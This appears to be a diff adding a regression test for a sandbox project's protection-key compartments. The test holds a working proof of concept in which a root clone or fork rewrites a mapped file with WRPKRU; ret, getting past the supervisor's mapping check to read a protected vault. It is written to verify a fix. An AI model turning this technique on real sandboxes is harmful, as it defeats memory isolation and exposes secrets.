@@ -1,0 +1,128 @@
+// Review 18 (attacker model B). Step 3 of the executable-file rule
+// (docs/hardening.md, "Executable file mappings"; runtime/supervisor-exec.c
+// changeable()) asks whether "the process" could change the file, and
+// reads the rights of the caller's threads only (/proc/<tgid>/task). Other
+// processes the attacker runs under the same filter are not looked at:
+//   - clone-vm: a clone(CLONE_VM) process (no CLONE_THREAD, no CLONE_FILES:
+//     the filter allows it) made while the process is root, sharing its
+//     memory, keeps root's credentials when the process drops every id
+//     and capability (raw setresuid: a process of its own, which no
+//     broadcast reaches anyway);
+//   - fork: a plain fork made before the drop, which stays root.
+// The dropped process maps a file root owns, mode 0644: judged as nobody,
+// "cannot change" it, mapped from the file (no sealed copy), its pages
+// copied (step 6). The root process then writes WRPKRU; ret into the
+// file, the dropped process advises its copy away (MADV_DONTNEED on a
+// mapping made after start-up goes through) and the next access reads
+// the file: a jump with eax = ecx = edx = 0 opens every key and reads the
+// vault. Reproduced in the PKU guest: both print ATTACK SUCCEEDED.
+// Review 16's fix (every thread's rights) is the same hole one step over:
+// creds are per task, and the attacker's tasks are not all threads.
+// Suggested fix: judge the rights of every task under this supervisor
+// that runs our code (our process, its forks, its memory's sharers: the
+// walk mapped_by (supervisor-truncate.c) and bh_each_sharer already make),
+// or, simpler and sure, map a sealed copy of every file (step 3's copy
+// always), leaving step 6 for nothing. Only the copy also answers a root
+// that leaves a writer outside the filter (a cron job, a service it
+// asks), which no look at tasks under the supervisor can see.
+// Once fixed each attack ends by signal 5 (a sealed copy: the jump lands
+// on the int3 the file held) or 9 (the supervisor refuses the mapping).
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
+// RUN: %run %t.on > %t.out 2>&1 || true
+// RUN: FileCheck %s --check-prefix=ON < %t.out
+// ON-NOT: ATTACK SUCCEEDED
+// ON: clone-vm: stopped by signal {{[59]}}
+// ON: fork: stopped by signal {{[59]}}
+// ON: parent's vault intact: 1
+#include "Inputs/target.h"
+#include "Inputs/libc-wrpkru.h"
+
+#include <sched.h>
+#include <sys/prctl.h>
+
+#define FILE_PATH "/tmp/rev18-other-code"
+
+static int go[2], done[2];
+static char stack[65536] __attribute__((aligned(16)));
+
+/* The root task: writes the file when told. System calls only (a
+ * clone(CLONE_VM) child shares the thread's TLS). */
+static int writer(void *unused) {
+  (void)unused;
+  char c;
+  if (syscall(SYS_read, go[0], &c, 1) != 1)
+    return 0;
+  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
+  long w = syscall(SYS_openat, AT_FDCWD, FILE_PATH, O_WRONLY);
+  c = w >= 0 && syscall(SYS_pwrite64, (int)w, code, 4, 0x100) == 4 ? 'y' : 'n';
+  syscall(SYS_write, done[1], &c, 1);
+  return 0;
+}
+
+static void attack(int clone_vm) {
+  const char *how = clone_vm ? "a file a clone(CLONE_VM) root process wrote"
+                             : "a file a root fork wrote";
+  if (getuid() != 0) {
+    printf("setup: run as root\n");
+    return;
+  }
+  static unsigned char page[4096];
+  memset(page, 0xcc, sizeof page);
+  unlink(FILE_PATH);
+  int fd = open(FILE_PATH, O_RDWR | O_CREAT | O_TRUNC, 0644);
+  if (fd < 0 || write(fd, page, sizeof page) != sizeof page || close(fd) ||
+      pipe(go) || pipe(done)) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  fflush(stdout);
+  pid_t p = clone_vm ? clone(writer, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL)
+                     : fork();
+  if (p == 0)
+    _exit(writer(NULL));
+  if (p < 0) {
+    printf("setup: %s: %s\n", clone_vm ? "clone" : "fork", strerror(errno));
+    return;
+  }
+  /* This process alone becomes nobody, for good: no id of root's, no
+   * capability, nothing to take back. */
+  if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setresgid, 65534, 65534, 65534) ||
+      syscall(SYS_setresuid, 65534, 65534, 65534)) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  prctl(PR_SET_DUMPABLE, 1, 0, 0, 0); /* the supervisor reads our memory */
+  fd = open(FILE_PATH, O_RDONLY);
+  unsigned char *m =
+      fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+  if (m == MAP_FAILED) {
+    report_read(how, NULL);
+    return;
+  }
+  printf("mapped by a process with no privilege\n");
+  fflush(stdout);
+  char c = 'g';
+  if (write(go[1], &c, 1) != 1 || read(done[0], &c, 1) != 1 || c != 'y') {
+    printf("the root task could not write the file\n");
+    report_read(how, NULL);
+    return;
+  }
+  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
+  int adv = madvise(m, 4096, MADV_DONTNEED);
+  printf("advised away: %d, the code shows the write: %d\n", adv,
+         !memcmp(m + 0x100, code, 4));
+  fflush(stdout);
+  static char out[48];
+  JUMP_AND_READ(m + 0x100, out);
+  report_read(how, out);
+}
+
+static void by_clone_vm(void) { attack(1); }
+static void by_fork(void) { attack(0); }
+
+int main(void) {
+  struct attack a[] = {{"clone-vm", by_clone_vm}, {"fork", by_fork}};
+  return run_attacks(a, 2);
+}
